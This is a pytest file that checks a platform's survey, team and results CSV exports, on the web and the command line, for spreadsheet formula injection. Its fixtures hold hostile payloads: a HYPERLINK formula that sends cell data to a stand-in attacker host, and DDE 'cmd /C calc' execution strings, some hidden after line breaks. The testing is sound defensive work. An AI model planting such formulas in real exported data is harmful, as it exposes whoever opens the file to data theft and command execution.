"""CSV formula injection in every CSV export, on the web and on the command line.

The CSV exports of the platform (grep `text/csv`, `csvsafe`, CONTRACTS.md):

- survey responses: web `survey_admin.download_responses`, CLI `surveys export-responses`;
- challenge teams: web `challenge_admin.download_teams`;
- published results: web `results_admin.export`, CLI `results export`.

(JSON outputs, such as `challenges export`, `judging assignments`, `insights report` and
"my data", are not spreadsheets and are not guarded.) Every text a person or a file can put
into them is given here starting with each formula character (``= + - @``, tab, carriage
return), through the real imports and pages; every cell of every export must then be
neutralised the same way (`challenge.csvsafe`: a leading ``'``), and the web download and
the command line must print the same bytes.
"""

from __future__ import annotations

import contextvars
import copy
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from challenge import clock
from challenge.csvsafe import FORMULA_STARTS, GUARD, formula_safe, unguard
from tests.conftest import login
from tests.web.test_survey_answering import CONTRACT as SURVEY_FILE

SURVEY = json.loads(SURVEY_FILE.read_text())
SURVEY_SLUG = SURVEY["slug"]
SLUG = "ddd-2027"
JUDGING = datetime(2027, 3, 10, 12, tzinfo=UTC)
RESULTS = datetime(2027, 4, 20, 12, tzinfo=UTC)

# A formula for every character a spreadsheet evaluates, as a person would type it.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# A line break inside a text must stay inside its (quoted) cell: a lone carriage return left
# unquoted would start a new spreadsheet row whose first cell is an unguarded formula.
ROW_BREAKS = ("fine\r=cmd|' /C calc'!A0", "fine\n=cmd|' /C calc'!A0",
              "fine\r\n=cmd|' /C calc'!A0", "fine\r\r+1+1")
TEAMS = {  # team name -> (submission title, award); names and titles start with a formula
    '=HYPERLINK("http://evil.example","Team")': ("=1+1", "=AWARD()"),
    "+Plus team": ("+SUM(A1:A9)", "+1 prize"),
    "-Minus team": ("-2+3", "-best"),
    "@At team": ("@cmd", "@award"),
}
MEMBERS = {  # first member's e-mail of each team (an e-mail may start with = + -)
    '=HYPERLINK("http://evil.example","Team")': "=leak@example.org",
    "+Plus team": "+plus@example.org",
    "-Minus team": "-minus@example.org",
    "@At team": "at@example.org",
}
ORGANIZER = "org@example.org"


def run(app, *args):
    """The real command, in a fresh context (its own app context and Session)."""
    return contextvars.Context().run(app.test_cli_runner().invoke,
                                     args=[str(a) for a in args])


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    return path


def csv_text(rows) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return out.getvalue()


def cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def assert_every_cell_neutralised(body: str) -> None:
    """No cell starts with a formula character; a guarded cell is GUARD + what was stored."""
    for line, row in enumerate(cells(body), start=1):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (line, cell)
            if cell.startswith(GUARD) and cell[1:].startswith(FORMULA_STARTS):
                assert formula_safe(unguard(cell)) == cell


@pytest.fixture
def world(app, make_user, tmp_path):
    """A survey with hostile answers, a challenge with hostile teams, titles, e-mails and
    awards, judged and published, all through the CLI imports."""
    clock.freeze(datetime(2027, 1, 12, 9, tzinfo=UTC))
    make_user(ORGANIZER, "organizer")
    survey_doc = copy.deepcopy(SURVEY)
    assert run(app, "surveys", "import",
               write(tmp_path, "s.json", json.dumps(survey_doc))).exit_code == 0
    header = ["external_id", "role", "dtype", "exercise.importance", "exercise.satisfaction",
              "devices", "stress", "age", "story"]
    rows = [header]
    for i, (start, formula) in enumerate(FORMULAS.items()):
        external = f"{start}ext-{i}" if start not in "\t\r" else f"ext-{i}"
        rows.append([external, "patient", "t1", "5", "2", "cgm", "3", "40", formula])
    for i, text in enumerate(ROW_BREAKS):
        rows.append([f"break-{i}", "carer", "", "4", "4", "", "", "", text])
    imported = run(app, "surveys", "import-responses", SURVEY_SLUG,
                   write(tmp_path, "r.csv", csv_text(rows)))
    assert imported.exit_code == 0, imported.stderr

    challenge_doc = {
        "slug": SLUG, "title": "Data Design Diabetes 2027", "description": "x",
        "team_size": {"min": 1, "max": 5},
        "phases": {"registration_opens": "2027-01-10T00:00:00Z",
                   "submission_deadline": "2027-03-01T17:00:00Z",
                   "judging_closes": "2027-04-01T17:00:00Z",
                   "results_at": "2027-04-15T17:00:00Z"},
        "rubric": {"criteria": [{"key": "impact", "name": "Impact", "weight": 1, "min": 1,
                                 "max": 5}]},
        "normalization": "none", "reviews_per_entry": 1,
        "judges": [{"email": "ana@example.org", "name": "=Ana"}],
        "teams": [{"name": name, "members": [MEMBERS[name]],
                   "submission": {"title": title, "summary": FORMULAS["="]}}
                  for name, (title, _award) in TEAMS.items()],
    }
    done = run(app, "challenges", "import",
               write(tmp_path, "c.json", json.dumps(challenge_doc)))
    assert done.exit_code == 0, done.stderr
    clock.freeze(JUDGING)
    scores = [["judge", "team", "criterion", "score", "comment"]]
    scores += [["ana@example.org", name, "impact", str(2 + i % 3), FORMULAS["@"]]
               for i, name in enumerate(TEAMS)]
    scored = run(app, "judging", "import-scores", SLUG,
                 write(tmp_path, "scores.csv", csv_text(scores)))
    assert scored.exit_code == 0, scored.stderr
    clock.freeze(RESULTS)
    awards = [f"--award={name}={award}" for name, (_t, award) in TEAMS.items()]
    published = run(app, "results", "publish", SLUG, *awards)
    assert published.exit_code == 0, published.stderr
    yield
    clock.freeze(None)


def organizer_client(app):
    client = app.test_client()
    assert login(client, ORGANIZER).status_code == 302
    return client


def web_csv(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    return response.get_data(as_text=True)


def test_survey_responses_export_neutralises_every_formula(app, world):
    web = web_csv(organizer_client(app), f"/organize/surveys/{SURVEY_SLUG}/responses.csv")
    cli = run(app, "surveys", "export-responses", SURVEY_SLUG)
    assert cli.exit_code == 0, cli.stderr
    assert web == cli.stdout_bytes.decode()
    assert_every_cell_neutralised(web)
    stories = {row["story"] for row in csv.DictReader(io.StringIO(web, newline=""))}
    externals = {row["external_id"] for row in csv.DictReader(io.StringIO(web, newline=""))}
    for start, formula in FORMULAS.items():
        if start in "\t\r":  # a text answer is trimmed: what is left starts with "="
            assert GUARD + formula.strip() in stories or GUARD + formula in stories
        else:
            assert GUARD + formula in stories, formula
            assert any(e.startswith(GUARD + start) for e in externals), start
    assert set(ROW_BREAKS) <= stories  # each text whole, in one cell of its own row
    assert len(cells(web)) == 1 + len(FORMULAS) + len(ROW_BREAKS)


def test_teams_export_neutralises_names_titles_and_members(app, world):
    body = web_csv(organizer_client(app), f"/organize/challenges/{SLUG}/teams.csv")
    assert_every_cell_neutralised(body)
    rows = {row["team"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
    for name, (title, _award) in TEAMS.items():
        row = rows[formula_safe(name)]
        assert row["team"] == GUARD + name
        assert row["submission title"] == GUARD + title
        assert row["members"] == formula_safe(MEMBERS[name])


def test_results_export_neutralises_teams_titles_and_awards(app, world):
    web = web_csv(organizer_client(app), f"/organize/challenges/{SLUG}/results/export.csv")
    cli = run(app, "results", "export", SLUG)
    assert cli.exit_code == 0, cli.stderr
    assert web == cli.stdout_bytes.decode()
    assert_every_cell_neutralised(web)
    rows = list(csv.DictReader(io.StringIO(web, newline="")))
    by_team = {row["team"]: row for row in rows}
    for name, (title, award) in TEAMS.items():
        row = by_team[GUARD + name]
        assert row["title"] == GUARD + title
        assert row["award"] == GUARD + award


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_one_guard_rule_for_every_formula_character(start):
    """The rule every export uses, character by character, and its inverse for imports."""
    text = f"{start}1+1"
    assert formula_safe(text) == GUARD + text
    assert unguard(formula_safe(text)) == text
    assert formula_safe("1+1") == "1+1" and formula_safe(None) == ""
    assert formula_safe(f" {start}") == f" {start}"  # only the first character counts
